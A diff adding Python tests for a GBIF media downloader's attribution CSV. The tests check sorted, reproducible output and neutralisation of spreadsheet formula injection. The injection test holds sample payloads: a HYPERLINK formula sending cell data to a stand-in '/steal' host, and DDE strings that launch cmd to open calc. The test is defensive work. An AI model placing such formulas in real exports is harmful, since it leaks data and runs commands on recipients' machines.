@@ -107,6 +107,43 @@ def test_attribution_lists_every_file_in_the_dataset(written: tuple[Path, list[M
         assert row["occurrence_url"] == f"https://www.gbif.org/occurrence/{record.occurrence_key}"
 
 
+def test_attribution_rows_are_sorted_by_path_and_a_rerun_writes_the_same_bytes(tmp_path: Path) -> None:
+    records = make_results(23)
+    in_dataset = sorted(r.path for r in records if r.status in (Status.DOWNLOADED, Status.SKIPPED_EXISTING))
+    # Fed in reverse path order, then in another order: the file must not follow either.
+    run_manifest(sorted(records, key=lambda r: r.path, reverse=True), str(tmp_path / "one"))
+    run_manifest(records[::2] + records[1::2], str(tmp_path / "two"))
+    assert [row["path"] for row in read_attribution(str(tmp_path / "one"))] == in_dataset
+    first, second = ((tmp_path / name / "ATTRIBUTION.csv").read_bytes() for name in ("one", "two"))
+    assert first == second and first.startswith(b"path,url,") and first.count(b"\n") == len(in_dataset) + 1 + 1  # + header, + "Jane\nDoe"
+
+
+FORMULAS = {
+    "creator": '=HYPERLINK("http://127.0.0.1:1/steal?"&A1,"Click me")',
+    "rights_holder": "-2+3+cmd|' /C calc'!A0",
+    "publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "license": "+1",
+    "dataset_key": "\t=1+1",
+}
+
+
+def test_attribution_cells_that_would_start_a_formula_are_made_inert(tmp_path: Path) -> None:
+    evil = make_results(1)[0].replace(**FORMULAS)
+    plain = make_results(3)[2].replace(creator="Jane = Doe - 2", rights_holder="'quoted already", publisher="\r=1")
+    run_manifest([evil, plain], str(tmp_path))
+    rows = {row["url"]: row for row in read_attribution(str(tmp_path))}
+    for column, value in FORMULAS.items():
+        assert rows[evil.url][column] == "'" + value  # prefixed, the text otherwise kept
+    assert rows[evil.url]["path"] == evil.path and rows[evil.url]["license_code"] == evil.license_code
+    assert rows[plain.url]["creator"] == "Jane = Doe - 2"  # only the first character counts
+    assert rows[plain.url]["rights_holder"] == "'quoted already"
+    assert rows[plain.url]["publisher"] == "'\r=1"
+    with (tmp_path / "ATTRIBUTION.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [cell for line in csv.reader(handle) for cell in line]
+    assert len(cells) == 3 * len(ATTRIBUTION_COLUMNS)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def test_stats_add_up(written: tuple[Path, list[MediaRecord]]) -> None:
     output, records = written
     stats = json.loads((output / "stats.json").read_text(encoding="utf-8"))
